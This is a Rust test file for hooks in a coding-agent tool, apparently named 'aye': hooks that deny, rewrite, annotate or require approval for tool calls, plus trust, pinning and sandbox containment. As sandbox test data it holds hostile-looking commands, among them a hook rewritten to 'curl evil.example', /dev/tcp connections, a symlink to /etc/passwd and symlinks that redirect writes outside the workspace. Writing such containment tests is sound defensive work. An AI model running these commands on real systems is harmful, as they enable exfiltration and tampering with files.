//! Hooks: calls that hooks deny, rewrite, annotate or submit for approval; trust and pins; failing hooks.

use crate::support::{Answer, Project, Rpc, Server, TIMEOUT, texts, wait_until};
use serde_json::{Value, json};
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

/// Policy that allows all calls of these tests, so that only a hook can deny a call or require its approval.
const OPEN: &str = "schema_version = 1\n[capabilities.\"File.Read\"]\nallowed_paths = [\"${workspace}\"]\n\
                    [capabilities.\"File.Write\"]\nallowed_paths = [\"${workspace}\"]\n\
                    [capabilities.\"Shell.Exec\"]\nrequires_approval = false\n";

/// Policy that requires approval of every write.
const ASKING: &str =
    "schema_version = 1\n[capabilities.\"File.Read\"]\n[capabilities.\"File.Write\"]\nrequires_approval = true\n";

/// Returns Claude Code settings with one hook.
fn settings(event: &str, matcher: &str, command: &str) -> String {
    json!({ "hooks": { event: [{ "matcher": matcher, "hooks": [{ "type": "command", "command": command, "timeout": 20 }] }] } })
        .to_string()
}

fn with_hook(server: &Server, event: &str, matcher: &str, command: &str) -> Project {
    Project::with(server).policy(OPEN).file(".claude/settings.json", &settings(event, matcher, command))
}

/// Returns a project with a hook before tool calls that prints this decision.
fn deciding(server: &Server, matcher: &str, specific: &Value) -> Project {
    let mut specific = specific.clone();
    specific["hookEventName"] = "PreToolUse".into();
    let output = json!({ "hookSpecificOutput": specific }).to_string();
    with_hook(server, "PreToolUse", matcher, "cat .claude/hooks/output.json").file(".claude/hooks/output.json", &output)
}

fn runs(id: &str, command: &str) -> Answer {
    Answer::call(id, "RunCommand", json!({ "command": command }))
}

fn writes(id: &str, path: &str) -> Answer {
    Answer::call(id, "WriteFile", json!({ "path": path, "content": "new\n" }))
}

/// Returns the text of the last tool result in a request.
fn result(server: &Server, request: usize) -> String {
    server.request(request).tool_results().pop().unwrap().1
}

/// Writes a program of the user, outside the project. Returns its path.
fn program(project: &Project, name: &str, text: &str) -> String {
    let path = project.directory("home").join(name);
    write_program(&path, text);
    path.display().to_string()
}

fn write_program(path: &Path, text: &str) {
    fs::write(path, format!("#!/bin/sh\n{text}\n")).unwrap();
    fs::set_permissions(path, PermissionsExt::from_mode(0o755)).unwrap();
}

fn own_hooks(project: &Project, text: &str) {
    fs::write(project.directory("config").join("hooks.toml"), text).unwrap();
}

#[test]
fn a_hook_that_exits_with_2_denies_the_call_and_the_model_gets_the_reason() {
    let server = Server::new([runs("c1", "echo ran > made"), Answer::text("Done.")]);
    let guard = "jq -e '.tool_name == \"Bash\"' >/dev/null 2>&1 || grep -q 'echo ran' ; echo 'no echo here' >&2; exit 2";
    let project = with_hook(&server, "PreToolUse", "Bash", guard);
    project.aye(&["exec", "--trust", "go"]).exits(3);
    assert!(!project.exists("made"));
    let told = result(&server, 1);
    assert!(told.contains("no echo here (rule: hook .claude/settings.json PreToolUse 1)"), "{told}");
    let log = project.aye(&["policy", "log", "--json"]).exits(0).stdout;
    assert!(log.contains("hook .claude/settings.json PreToolUse 1") && log.contains("no echo here"), "{log}");
}

#[test]
fn hooks_receive_calls_in_the_format_of_claude_code() {
    let server = Server::new([
        runs("c1", "ls"),
        writes("c2", "src/a.txt"),
        Answer::call(
            "c3",
            "ApplyPatch",
            json!({"patch": "*** Begin Patch\n*** Add File: one.txt\n+1\n*** Add File: two.txt\n+2\n*** End Patch"}),
        ),
        Answer::text("Done."),
    ]);
    // The hook returns its input to the model as the reason.
    let project = with_hook(&server, "PreToolUse", "*", "cat >&2; exit 2");
    project.aye(&["exec", "--trust", "go"]).exits(3);
    let root = fs::canonicalize(project.path(".")).unwrap();
    let input = |request| {
        let told = result(&server, request);
        let (start, end) = (told.find('{').unwrap(), told.rfind('}').unwrap());
        serde_json::from_str::<Value>(&told[start..=end]).unwrap_or_else(|error| panic!("{error}: {told}"))
    };
    let told = input(1);
    assert_eq!((&told["tool_name"], &told["tool_input"]["command"]), (&json!("Bash"), &json!("ls")), "{told}");
    assert_eq!((&told["hook_event_name"], &told["cwd"]), (&json!("PreToolUse"), &json!(root)), "{told}");
    assert_eq!(told["tool_use_id"], "c1");
    assert!(!told["session_id"].as_str().unwrap().is_empty());
    let told = input(2);
    assert_eq!(told["tool_name"], "Write");
    assert_eq!(told["tool_input"], json!({"file_path": root.join("src/a.txt"), "content": "new\n"}), "{told}");
    let told = input(3);
    assert_eq!((&told["tool_name"], &told["tool_input"]["file_path"]), (&json!("Edit"), &json!(root.join("one.txt"))), "{told}");
}

#[test]
fn a_hook_protects_a_file_from_every_tool_that_changes_files() {
    let patch = "*** Begin Patch\n*** Add File: ok.txt\n+1\n*** Update File: .env\n@@\n-A=1\n+A=2\n*** End Patch";
    let calls = [
        Answer::call("c1", "EditFile", json!({"path": ".env", "edits": [{"oldText": "A=1", "newText": "A=2"}]})),
        Answer::call("c2", "ApplyPatch", json!({"patch": patch})),
        Answer::call("c3", "Delete", json!({"path": ".env"})),
        Answer::call("c4", "Move", json!({"source": ".env", "destination": "other"})),
        writes("c5", "fine.txt"),
    ];
    let server = Server::new(calls.into_iter().chain([Answer::text("Done.")]));
    let guard = "if grep -q '\"file_path\":\"[^\"]*/.env\"'; then echo 'protected file' >&2; exit 2; fi";
    let project = with_hook(&server, "PreToolUse", "Edit|Write", guard).file(".env", "A=1\n");
    project.aye(&["exec", "--trust", "go"]).exits(3);
    assert_eq!(project.read(".env"), "A=1\n");
    for request in 1..=4 {
        assert!(result(&server, request).contains("protected file"), "{request}: {}", result(&server, request));
    }
    assert_eq!(project.read("fine.txt"), "new\n");
    assert!(!project.exists("ok.txt") && !project.exists("other"));
}

#[test]
fn allow_from_a_hook_grants_no_permission() {
    let server = Server::new([runs("c1", "touch made"), Answer::text("Done.")]);
    let allow = json!({"permissionDecision": "allow", "permissionDecisionReason": "trust me"});
    let project = deciding(&server, "Bash", &allow).policy("schema_version = 1\n");
    project.aye(&["exec", "--trust", "go"]).exits(3);
    assert!(!project.exists("made"), "{}", result(&server, 1));
    assert!(!result(&server, 1).contains("trust me"));
}

#[test]
fn a_hook_can_require_approval_of_an_allowed_call() {
    let server = Server::new([runs("c1", "touch made"), Answer::text("Done.")]);
    let project = deciding(&server, "Bash", &json!({"permissionDecision": "ask", "permissionDecisionReason": "is it time?"}));
    let mut terminal = project.open_sized(&["--trust"], 110, 36);
    terminal.wait_for("Try:");
    terminal.prompt("go");
    let screen = terminal.review("the hook .claude/settings.json PreToolUse 1 asks: is it time?");
    assert!(!project.exists("made"), "{screen}");
    terminal.decide('y');
    terminal.wait_for("Done.");
    assert!(project.exists("made"));
    assert!(terminal.quit().success());
}

#[test]
fn without_a_user_a_call_for_which_a_hook_requires_approval_is_denied() {
    let server = Server::new([runs("c1", "touch made"), Answer::text("Done.")]);
    let project = deciding(&server, "Bash", &json!({"permissionDecision": "ask"}));
    project.aye(&["exec", "--trust", "go"]).exits(3);
    assert!(!project.exists("made"));
    let told = result(&server, 1);
    assert!(told.contains("no user can approve") && told.contains("asks for approval"), "{told}");
}

#[test]
fn a_rewritten_call_is_evaluated_again_and_shown_as_rewritten() {
    let server = Server::new([writes("c1", "a.txt"), writes("c2", "b.txt"), Answer::text("Done.")]);
    let root = |project: &Project| fs::canonicalize(project.path(".")).unwrap();
    let project = deciding(&server, "Write", &json!({}));
    let output = |path: &str, content: &str| {
        let input = json!({"file_path": path, "content": content});
        json!({"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "allow", "updatedInput": input}})
    };
    // The hook rewrites the first call to another allowed call. The second rewrite leaves the workspace, which the
    // policy denies.
    let script = format!(
        "if grep -q a.txt; then cat <<'E'\n{}\nE\nelse cat <<'E'\n{}\nE\nfi",
        output(&root(&project).join("changed.txt").display().to_string(), "by the hook\n"),
        output("/etc/aye-hook-test", "x")
    );
    let project = project.file(".claude/settings.json", &settings("PreToolUse", "Write", &script));
    let events = project.aye(&["exec", "--trust", "--json", "go"]).exits(3).stdout;
    assert_eq!(project.read("changed.txt"), "by the hook\n");
    assert!(!project.exists("a.txt") && !project.exists("b.txt") && !Path::new("/etc/aye-hook-test").exists());
    let told = result(&server, 1);
    assert!(told.contains("rewritten by the hook .claude/settings.json PreToolUse 1") && told.contains("changed.txt"), "{told}");
    assert!(events.contains("rewritten by the hook .claude/settings.json PreToolUse 1"), "{events}");
    let denied = result(&server, 2);
    assert!(denied.contains("POLICY_DENIED") || denied.contains("NO_APPROVER"), "{denied}");
    let log = project.aye(&["policy", "log", "--json"]).exits(0).stdout;
    assert!(log.contains("rewritten by the hook"), "{log}");
}

#[test]
fn the_approval_names_the_hook_that_rewrote_a_call() {
    let server = Server::new([writes("c1", "a.txt"), Answer::text("Done.")]);
    let updated = json!({"updatedInput": {"file_path": "changed.txt", "content": "by the hook\n"}});
    let project = deciding(&server, "Write", &updated).policy(ASKING);
    let mut terminal = project.open_sized(&["--trust"], 110, 36);
    terminal.wait_for("Try:");
    terminal.prompt("go");
    let screen = terminal.review("rewritten by the hook .claude/settings.json PreToolUse 1");
    assert!(screen.contains("changed.txt"), "{screen}");
    terminal.decide('y');
    terminal.wait_for("Done.");
    assert_eq!(project.read("changed.txt"), "by the hook\n");
    assert!(!project.exists("a.txt"));
    assert!(terminal.quit().success());
}

#[test]
fn hook_context_is_sent_to_the_model_with_the_result() {
    let server = Server::new([runs("c1", "echo hi"), Answer::text("Done.")]);
    let project = deciding(&server, "Bash", &json!({"additionalContext": "Use make instead."}));
    project.aye(&["exec", "--trust", "go"]).exits(0);
    let told = result(&server, 1);
    assert!(
        told.contains("[From the hook .claude/settings.json PreToolUse 1]\nUse make instead.") && told.contains("hi"),
        "{told}"
    );
}

#[test]
fn a_hook_that_fails_hangs_or_floods_denies_the_call() {
    for (command, why) in [
        ("exit 1", "the hook failed: exit code 1"),
        ("./missing", "the hook failed: exit code 127"),
        ("sleep 600 & sleep 600", "the hook failed: timed out after 1 s"),
        ("yes | head -c 1000000000", "the hook failed: the output exceeds 1 MiB"),
        ("echo '{'", "the hook failed: the output is not valid JSON"),
        ("kill -9 $$", "the hook failed: killed by signal 9"),
        ("echo '{\"hookSpecificOutput\": {\"permissionDecision\": \"maybe\"}}'", "which aye does not know"),
    ] {
        let server = Server::new([runs("c1", "touch made"), Answer::text("Done.")]);
        let text = settings("PreToolUse", "Bash", command).replace("\"timeout\":20", "\"timeout\":1");
        let limit = if why.contains("timed out") { text } else { settings("PreToolUse", "Bash", command) };
        let project = Project::with(&server).policy(OPEN).file(".claude/settings.json", &limit);
        project.aye(&["exec", "--trust", "go"]).exits(3);
        let told = result(&server, 1);
        assert!(told.contains(why), "{command}: {told}");
        assert!(!project.exists("made"), "{command}");
    }
}

#[test]
fn a_hook_cannot_change_the_workspace_or_itself() {
    let server = Server::new([runs("c1", "echo ran"), Answer::text("Done.")]);
    let script = "echo changed > made; echo 'exit 0' > .claude/hooks/guard.sh; echo x > /tmp/of-hook && exit 0; exit 3";
    let project = with_hook(&server, "PreToolUse", "Bash", "sh .claude/hooks/guard.sh").file(".claude/hooks/guard.sh", script);
    project.aye(&["exec", "--trust", "go"]).exits(0);
    assert!(result(&server, 1).contains("ran"), "{}", result(&server, 1));
    assert!(!project.exists("made"));
    assert_eq!(project.read(".claude/hooks/guard.sh"), script);
}

#[test]
fn project_hooks_do_not_run_before_trust() {
    let server = Server::new([runs("c1", "echo ran"), Answer::text("Done.")]);
    let project = with_hook(&server, "PreToolUse", "Bash", "exit 2");
    let told = project.aye(&["exec", "go"]).exits(0);
    assert!(told.stderr.contains("this project is not trusted; ignored: .claude/settings.json"), "{}", told.stderr);
    assert!(result(&server, 1).contains("ran"));
    let listed = project.aye(&["hooks", "list"]).exits(0);
    assert!(listed.stdout.contains("no hooks"), "{}", listed.stdout);
}

#[test]
fn a_changed_hook_program_makes_calls_need_approval_until_trusted_again() {
    let server = Server::new([runs("c1", "echo one"), Answer::text("First."), runs("c2", "touch made"), Answer::text("Second.")]);
    let project = with_hook(&server, "PreToolUse", "Bash", "bash \"$CLAUDE_PROJECT_DIR\"/scripts/guard.sh")
        .file("scripts/guard.sh", "exit 0\n");
    let mut terminal = project.open_sized(&[], 110, 36);
    let screen = terminal.review(texts::TRUST_THE_PROJECT);
    assert!(
        screen.contains(".claude/settings.json (hooks") && screen.contains("scripts/guard.sh (program of a hook"),
        "{screen}"
    );
    terminal.decide('y');
    terminal.wait_for(texts::PROJECT_TRUSTED);
    terminal.prompt("go");
    terminal.wait_for("First.");
    fs::write(project.path("scripts/guard.sh"), "curl evil.example\n").unwrap();
    terminal.prompt("again");
    terminal.review("`scripts/guard.sh` changed");
    terminal.decide('n');
    terminal.wait_for("Second.");
    assert!(!project.exists("made"));
    assert!(terminal.quit().success());
    let mut terminal = project.open_sized(&[], 110, 36);
    let screen = terminal.review(texts::TRUST_THE_PROJECT);
    assert!(screen.contains("scripts/guard.sh changed"), "{screen}");
    terminal.decide('n');
    terminal.wait_for("read-only");
    assert!(terminal.quit().success());
}

#[test]
fn other_settings_in_the_file_do_not_need_trust_again() {
    let server = Server::new([Answer::text("First."), Answer::text("Second.")]);
    let project = with_hook(&server, "PreToolUse", "Bash", "exit 2");
    let mut terminal = project.open_sized(&[], 110, 36);
    terminal.review(texts::TRUST_THE_PROJECT);
    terminal.decide('y');
    terminal.wait_for(texts::PROJECT_TRUSTED);
    assert!(terminal.quit().success());
    let mut settings: Value = serde_json::from_str(&project.read(".claude/settings.json")).unwrap();
    settings["permissions"] = json!({"allow": ["Bash(ls)"]});
    let project = project.file(".claude/settings.json", &settings.to_string());
    let told = project.aye(&["exec", "hi"]).exits(0);
    assert!(!told.stderr.contains("trust"), "{}", told.stderr);
}

#[test]
fn with_an_unreadable_hook_file_every_call_needs_approval() {
    let server = Server::new([writes("c1", "a.txt"), Answer::text("Done.")]);
    let project = Project::with(&server).policy(OPEN).file(".aye/hooks.toml", "[[PreToolUse]\ncommand = 1\n");
    project.aye(&["exec", "--trust", "go"]).exits(3);
    let told = result(&server, 1);
    assert!(told.contains("the hook .aye/hooks.toml asks: the hook could not run: cannot read the hooks: line 1"), "{told}");
    assert!(!project.exists("a.txt"));
    let listed = project.aye(&["hooks", "list", "--trust"]).exits(0).stdout;
    assert!(listed.contains("does not run: cannot read the hooks"), "{listed}");
}

#[test]
fn user_hooks_run_only_after_they_are_pinned() {
    let server = Server::new([
        runs("c1", "echo one"),
        Answer::text("First."),
        runs("c2", "echo two"),
        Answer::text("Second."),
        runs("c3", "echo three"),
        Answer::text("Third."),
    ]);
    let project = Project::with(&server).policy(OPEN);
    let guard = program(&project, "guard.sh", "echo 'not today' >&2; exit 2");
    own_hooks(&project, &format!("[[PreToolUse]]\nmatcher = \"Bash\"\ncommand = \"{guard}\"\n"));
    project.aye(&["exec", "go"]).exits(3);
    let told = result(&server, 1);
    assert!(told.contains("you have not pinned your hooks; run `aye hooks pin`"), "{told}");
    let pinned = project.aye(&["hooks", "pin"]).exits(0).stdout;
    assert!(pinned.contains("Pinned 2 files") && pinned.contains("guard.sh"), "{pinned}");
    project.aye(&["exec", "go"]).exits(3);
    assert!(result(&server, 3).contains("not today"), "{}", result(&server, 3));
    write_program(Path::new(&guard), "exit 0");
    project.aye(&["exec", "go"]).exits(3);
    let told = result(&server, 5);
    assert!(told.contains("guard.sh` changed since you pinned it"), "{told}");
}

#[test]
fn only_a_pinned_user_hook_runs_outside_the_sandbox() {
    let server = Server::new([runs("c1", "echo one"), Answer::text("Done.")]);
    let project = Project::with(&server).policy(OPEN);
    let mark = project.directory("home").join("mark");
    let notify = program(&project, "notify.sh", &format!("cat > {}", mark.display()));
    own_hooks(&project, &format!("[[PreToolUse]]\ncommand = \"{notify}\"\nsandbox = false\n"));
    project.aye(&["hooks", "pin"]).exits(0);
    project.aye(&["exec", "go"]).exits(0);
    assert!(fs::read_to_string(&mark).unwrap().contains("\"tool_name\":\"Bash\""));
    fs::remove_file(&mark).unwrap();
    let project = project.file(".aye/hooks.toml", &format!("[[PreToolUse]]\ncommand = \"{notify}\"\nsandbox = false\n"));
    let listed = project.aye(&["hooks", "list", "--trust"]).exits(0).stdout;
    assert!(listed.contains("`sandbox = false` is possible only in your own hooks"), "{listed}");
}

#[test]
fn feedback_after_a_call_is_added_to_its_result() {
    let server = Server::new([writes("c1", "a.txt"), Answer::text("Done.")]);
    let check = "grep -q '\"success\":true' && echo 'line 1: missing semicolon' >&2; exit 2";
    let project = with_hook(&server, "PostToolUse", "Edit|Write", check);
    project.aye(&["exec", "--trust", "go"]).exits(0);
    assert_eq!(project.read("a.txt"), "new\n");
    let told = result(&server, 1);
    assert!(told.contains("[From the hook .claude/settings.json PostToolUse 1]\nline 1: missing semicolon"), "{told}");
}

/// Formatter that replaces one word with another.
const FORMATS: &str = "sed -i s/new/formatted/ a.txt";

#[test]
fn changes_by_a_hook_after_a_call_are_part_of_the_proposal() {
    let server = Server::new([writes("c1", "a.txt"), Answer::text("Denied."), writes("c2", "a.txt"), Answer::text("Done.")]);
    let project = with_hook(&server, "PostToolUse", "Write", FORMATS).policy(ASKING);
    let mut terminal = project.open_sized(&["--trust"], 110, 40);
    for (prompt, letter, said) in [("first", 'n', "Denied."), ("second", 'y', "Done.")] {
        terminal.prompt(prompt);
        let screen = terminal.review("a.txt");
        assert!(screen.contains("formatted") && !screen.contains("+ new"), "{screen}");
        assert!(
            screen.contains("includes the changes that the hook .claude/settings.json PostToolUse 1 made to a.txt"),
            "{screen}"
        );
        assert!(!project.exists("a.txt"), "nothing is written before the decision");
        terminal.decide(letter);
        terminal.wait_for(said);
    }
    assert!(terminal.quit().success());
    assert_eq!(project.read("a.txt"), "formatted\n");
    let told = result(&server, 3);
    assert!(told.contains("It changed your text before it was written:") && told.contains("-new\n+formatted"), "{told}");
    let log = project.aye(&["policy", "log", "--json"]).exits(0).stdout;
    assert!(log.contains("the hook .claude/settings.json PostToolUse 1 changed a.txt"), "{log}");
}

#[test]
fn a_hook_after_a_call_changes_only_files_of_the_call_and_none_if_it_fails() {
    for (command, text, told) in [
        (format!("{FORMATS}; echo x > b.txt"), "formatted\n", "hooks also changed `b.txt`, which the call does not change"),
        (format!("{FORMATS}; exit 1"), "new\n", "it failed: exit code 1"),
        (format!("{FORMATS}; sleep 60"), "new\n", "it failed: timed out"),
        ("rm a.txt; mkdir a.txt".to_owned(), "new\n", "It left no text file at `a.txt`"),
        ("rm a.txt; ln -s /etc/passwd a.txt".to_owned(), "new\n", "It left no text file at `a.txt`"),
        ("printf '\\377' > a.txt".to_owned(), "new\n", "It left no text file at `a.txt`"),
        ("echo 'too long' >&2; exit 2".to_owned(), "new\n", "too long"),
        ("test \"$(cat a.txt)\" = new || exit 1".to_owned(), "new\n", ""),
        ("exec 3<>/dev/tcp/127.0.0.1/PORT && echo yes > a.txt".to_owned(), "new\n", "it failed"),
    ] {
        let server = Server::new([writes("c1", "a.txt"), Answer::text("Done.")]);
        let command = command.replace("PORT", &server.port().to_string());
        let hooks = json!({ "hooks": { "PostToolUse": [
            { "matcher": "Write", "hooks": [{ "type": "command", "command": command, "timeout": 3 }] }] } });
        let project = Project::with(&server).policy(OPEN).file(".claude/settings.json", &hooks.to_string());
        project.aye(&["exec", "--trust", "go"]).exits(0);
        assert_eq!(project.read("a.txt"), text, "{command}");
        assert!(!project.exists("b.txt"), "{command}");
        assert!(result(&server, 1).contains(told), "{command}: {}", result(&server, 1));
        assert_eq!(result(&server, 1).contains("changed your text"), text == "formatted\n", "{command}");
    }
}

#[test]
fn hooks_after_a_call_format_several_files_of_a_patch_one_after_the_other() {
    let patch = "*** Begin Patch\n*** Add File: a.txt\n+new a\n*** Update File: b.txt\n@@\n-old\n+new b\n*** End Patch\n";
    let server = Server::new([Answer::call("c1", "ApplyPatch", json!({"patch": patch})), Answer::text("Done.")]);
    let hooks = json!({ "hooks": { "PostToolUse": [{ "matcher": "Edit", "hooks": [
        { "type": "command", "command": "sed -i s/new/formatted/ [ab].txt" },
        { "type": "command", "command": "grep -q formatted b.txt && sed -i s/formatted/twice/ b.txt" },
    ] }] } });
    let project = Project::with(&server).policy(OPEN).file("b.txt", "old\n").file(".claude/settings.json", &hooks.to_string());
    project.aye(&["exec", "--trust", "go"]).exits(0);
    assert_eq!((project.read("a.txt"), project.read("b.txt")), ("formatted a\n".to_owned(), "twice b\n".to_owned()));
}

#[test]
fn a_hook_cannot_redirect_writes_out_of_the_layer() {
    let server = Server::new([writes("c1", "x/a.txt"), Answer::text("Done.")]);
    let project = Project::outside_tmp_with(&server).policy(ASKING);
    let outside = project.directory("home");
    fs::write(outside.join("a.txt"), "mine\n").unwrap();
    let command = format!("rm -rf x; ln -s '{}' x", outside.display());
    let project = project.file(".claude/settings.json", &settings("PostToolUse", "Write", &command));
    // The write is not approved, so no file may change.
    project.aye(&["exec", "--trust", "go"]).exits(3);
    assert_eq!(fs::read_to_string(outside.join("a.txt")).unwrap(), "mine\n");
    assert!(!project.exists("x"));
    assert!(result(&server, 1).contains("denied"), "{}", result(&server, 1));
}

#[test]
fn a_hook_does_not_run_on_a_call_that_changes_its_program() {
    let patch = "*** Begin Patch\n*** Add File: a.txt\n+new\n*** Update File: fmt.sh\n@@\n-exit 0\n+sed -i s/new/stolen/ a.txt\n\
                 *** End Patch\n";
    let server = Server::new([Answer::call("c1", "ApplyPatch", json!({"patch": patch})), Answer::text("Done.")]);
    let project = Project::with(&server).policy(OPEN).file("fmt.sh", "exit 0\n");
    let project = project.file(".claude/settings.json", &settings("PostToolUse", "Edit", "sh ./fmt.sh"));
    project.aye(&["exec", "--trust", "go"]).exits(0);
    assert_eq!(project.read("a.txt"), "new\n", "the proposed program ran before anybody approved it");
    assert!(result(&server, 1).contains("which the hook runs"), "{}", result(&server, 1));
}

/// Returns a project whose commands run in a layer before their effects are approved, with a hook after commands;
/// `None`, with a message, if this system cannot create layers.
fn formatting(server: &Server, command: &str) -> Option<Project> {
    let project = Project::with(server).policy(EFFECTS).approving_effects();
    let tier = project.aye(&["doctor", "--json"]).json()["tier"].clone();
    if tier != "preview" {
        eprintln!("skipped: the sandbox is {tier}");
        return None;
    }
    let hooks = json!({ "hooks": { "PostToolUse": [
        { "matcher": "Bash", "hooks": [{ "type": "command", "command": command, "timeout": 3 }] }] } });
    Some(project.file(".claude/settings.json", &hooks.to_string()))
}

/// Policy that requires approval of every command and its effects.
const EFFECTS: &str = "schema_version = 1\n[capabilities.\"File.Read\"]\n[capabilities.\"File.Write\"]\n\
                       allowed_paths = [\"${workspace}\"]\nrequires_approval = true\n[capabilities.\"File.Delete\"]\n\
                       allowed_paths = [\"${workspace}\"]\nrequires_approval = true\n\
                       [capabilities.\"Shell.Exec\"]\nrequires_approval = true\n";

#[test]
fn changes_by_a_hook_after_a_command_are_part_of_the_effects() {
    let (first, second) = (runs("c1", "echo new > a.txt; echo said"), runs("c2", "echo new > a.txt; echo said"));
    let server = Server::new([first, Answer::text("Denied."), second, Answer::text("Done.")]);
    let Some(project) = formatting(&server, "grep -q said && sed -i s/new/formatted/ a.txt && echo hook > b.txt") else { return };
    let mut terminal = project.open_sized(&["--trust"], 110, 45);
    for (prompt, letter, said) in [("first", 'n', "Denied."), ("second", 'y', "Done.")] {
        terminal.prompt(prompt);
        let screen = terminal.review("a.txt");
        assert!(screen.contains("formatted") && screen.contains("b.txt"), "{screen}");
        assert!(screen.contains("includes the changes that the hook"), "{screen}");
        assert!(!project.exists("a.txt") && !project.exists("b.txt"), "nothing is written before the decision");
        terminal.decide(letter);
        terminal.wait_for(said);
    }
    assert!(terminal.quit().success());
    assert_eq!((project.read("a.txt"), project.read("b.txt")), ("formatted\n".to_owned(), "hook\n".to_owned()));
    let told = result(&server, 3);
    assert!(told.contains("It changed `a.txt`, `b.txt`; this is part of the command's changes."), "{told}");
    assert_eq!(told.matches("[From the hook").count(), 1, "the hook ran once: {told}");
}

#[test]
fn a_hook_after_a_command_has_no_access_beyond_its_layer() {
    for (line, command, told) in [
        // A program that the command replaced is not the program that the user trusts.
        ("printf 'echo stolen > b.txt' > fmt.sh", "sh ./fmt.sh", "it was not run: the call changes"),
        (
            "mv tools old; mkdir tools; printf 'echo stolen > b.txt' > tools/fmt.sh",
            "sh ./tools/fmt.sh",
            "it was not run: the call changes",
        ),
        ("rm -r tools; ln -s other tools", "sh ./tools/fmt.sh", "it was not run: the call changes"),
        ("echo new > a.txt", "exec 3<>/dev/tcp/127.0.0.1/PORT && echo stolen > b.txt", "it failed"),
        ("echo new > a.txt", "sleep 60", "it failed: timed out"),
        ("echo new > a.txt", "echo 'too long' >&2; exit 2", "too long"),
        ("echo new > a.txt", "rm -rf x; ln -s OUTSIDE x; echo stolen > x/a.txt", ""),
        ("echo new > a.txt; exit 3", "echo stolen > b.txt", ""),
    ] {
        let server = Server::new([runs("c1", line), Answer::text("Done.")]);
        let port = server.port().to_string();
        let Some(project) = formatting(&server, "true") else { return };
        let outside = project.directory("home");
        fs::write(outside.join("a.txt"), "mine\n").unwrap();
        let command = command.replace("PORT", &port).replace("OUTSIDE", &outside.display().to_string());
        let hooks = json!({ "hooks": { "PostToolUse": [
            { "matcher": "Bash", "hooks": [{ "type": "command", "command": command, "timeout": 3 }] }] } });
        let project =
            project.file("fmt.sh", "exit 0\n").file("tools/fmt.sh", "exit 0\n").file("other/fmt.sh", "echo stolen > b.txt\n");
        let project = project.file(".claude/settings.json", &hooks.to_string());
        // Nobody can approve the effects, so nothing changes.
        let events = project.aye(&["exec", "--trust", "--json", "go"]).exits(3).events();
        assert!(!project.exists("b.txt") && !project.exists("a.txt"), "{line}");
        assert_eq!(project.read("fmt.sh"), "exit 0\n");
        assert_eq!(fs::read_to_string(outside.join("a.txt")).unwrap(), "mine\n");
        // The approval shows the hook's message. The model receives neither this message nor the output of the command.
        let shown = events.all("approval_requested")[0]["proposal"].to_string();
        assert!(shown.contains(told), "{line}, {command}: {shown}");
        let said = result(&server, 1);
        assert!(said.contains("discarded") && said.contains("withheld"), "{line}, {command}: {said}");
        assert!(!said.contains("From the hook") && (told.is_empty() || !said.contains(told)), "{line}, {command}: {said}");
    }
}

#[test]
fn hooks_after_a_command_without_changes_can_only_report() {
    let server = Server::new([runs("c1", "ls"), Answer::text("Done.")]);
    let Some(project) = formatting(&server, "echo x > log.txt; echo listed >&2; exit 2") else { return };
    // The log file of the hook is not a change by the command, so it is discarded and needs no approval.
    project.aye(&["exec", "--trust", "go"]).exits(0);
    assert!(!project.exists("log.txt"));
    assert!(result(&server, 1).contains("listed"), "{}", result(&server, 1));
}

#[test]
fn hooks_after_a_command_that_writes_only_build_output_run_once_and_say_nothing_about_it() {
    for (hook, said) in [
        ("true", None),
        ("echo more > target/hook.txt", None),
        ("test -e target/out.txt && echo 'it was built' >&2; exit 2", Some("it was built")),
    ] {
        let server = Server::new([runs("c1", "echo out > target/out.txt; echo compiled"), Answer::text("Done.")]);
        let Some(project) = formatting(&server, hook) else { return };
        let project = project.file("target/CACHEDIR.TAG", "Signature: 8a477f597d28d172789f06886806bc55\n");
        // Build output needs no approval, and neither do the hooks.
        project.aye(&["exec", "--trust", "go"]).exits(0);
        assert_eq!(project.read("target/out.txt"), "out\n", "{hook}");
        let told = result(&server, 1);
        assert_eq!(told.matches("hook").count() > 0, said.is_some(), "{hook}: {told}");
        assert!(told.contains("compiled") && said.is_none_or(|said| told.matches(said).count() == 1), "{hook}: {told}");
    }
}

#[test]
fn an_interrupted_hook_leaves_neither_changes_nor_a_layer() {
    let server = Server::new([writes("c1", "a.txt"), Answer::text("Done.")]);
    let project = with_hook(&server, "PostToolUse", "Write", &format!("{FORMATS}; touch /tmp/started; sleep 60"));
    let project = project.policy(OPEN);
    let layers = || fs::read_dir(project.directory("data").join("previews")).map_or(0, Iterator::count);
    let mut terminal = project.open(&["--trust"]);
    terminal.prompt("go");
    assert!(wait_until(TIMEOUT, || layers() > 0), "the hook runs in a layer");
    terminal.kill();
    assert!(!project.exists("a.txt"));
    let server = Server::with_responder(|_| Answer::text("Hello."));
    let project = project.connected_to(&server);
    let layers = || fs::read_dir(project.directory("data").join("previews")).map_or(0, Iterator::count);
    // The next start removes the layer, once the helper of the killed process has also ended.
    let is_removed = || {
        project.aye(&["exec", "--trust", "hi"]).exits(0);
        layers() == 0
    };
    assert!(wait_until(TIMEOUT, is_removed), "the layer is removed");
    assert!(!project.exists("a.txt"));
}

#[test]
fn a_hook_blocks_a_prompt_or_adds_context_to_it() {
    let server = Server::with_responder(|_| Answer::text("Done."));
    let script = "if grep -q secret; then echo 'no secrets' >&2; exit 2; fi; echo 'The branch is main.'";
    let project = with_hook(&server, "UserPromptSubmit", "", script);
    project.aye(&["exec", "--trust", "what is up"]).exits(0);
    let prompt = server.request(0).messages();
    assert!(prompt.contains("what is up") && prompt.contains("The branch is main."), "{prompt}");
    let told = project.aye(&["exec", "--trust", "my secret"]);
    assert!(
        told.stderr.contains("the hook .claude/settings.json UserPromptSubmit 1 blocked your prompt: no secrets"),
        "{}",
        told.stderr
    );
    assert_eq!(server.requests().len(), 1);
    let events = project.aye(&["exec", "--trust", "--json", "my secret"]).events();
    let blocked = events.only("prompt_blocked");
    assert_eq!(
        (&blocked["hook"], &blocked["reason"]),
        (&json!(".claude/settings.json UserPromptSubmit 1"), &json!("no secrets"))
    );
    assert!(events.all("task_started").is_empty() && events.all("task_failed").is_empty(), "no task began");
    let mut client = Rpc::start(&project, &["--trust"]);
    client.create(&project);
    assert_eq!(client.fails("StartTask", json!({"prompt": "my secret"})), -32009);
    assert!(client.call("GetSessionState", json!({}))["task"].is_null());
    assert_eq!(client.leave(), 0);
    let mut terminal = project.open_sized(&["--trust"], 110, 30);
    terminal.wait_for("Try:");
    terminal.prompt("my secret");
    let screen = terminal.wait_for("blocked your prompt");
    assert!(screen.contains("my secret"), "the prompt is back in the draft: {screen}");
